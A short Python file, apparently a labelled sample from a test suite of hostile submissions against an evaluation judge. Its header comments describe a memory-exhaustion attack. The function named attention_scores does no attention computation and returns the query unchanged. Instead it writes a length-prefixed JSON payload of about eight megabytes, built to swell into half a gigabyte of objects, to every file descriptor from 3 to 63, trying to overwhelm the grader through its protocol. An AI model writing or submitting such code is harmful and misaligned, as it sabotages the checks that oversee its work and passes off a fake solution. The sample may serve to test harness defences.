# tries: eight megabytes of JSON that become half a gigabyte of Python objects
# stopped-by: protocol
# wins: judge
# naive: trusting
import os
import struct

nodes = ",".join(['["list",[]]'] * 680_000)
text = (
    '{"kind":"reply","refused":[],"output":["list",%s],"inputs":["list"],"values":["list"],"gradients":["dict"]}'
    % nodes
).encode()


def attention_scores(query, key, scale=None):
    for fd in range(3, 64):
        try:
            rest = memoryview(struct.pack("<IQ", len(text), 0) + text)
            while rest:
                rest = rest[os.write(fd, rest) :]
        except OSError:
            pass
    return query
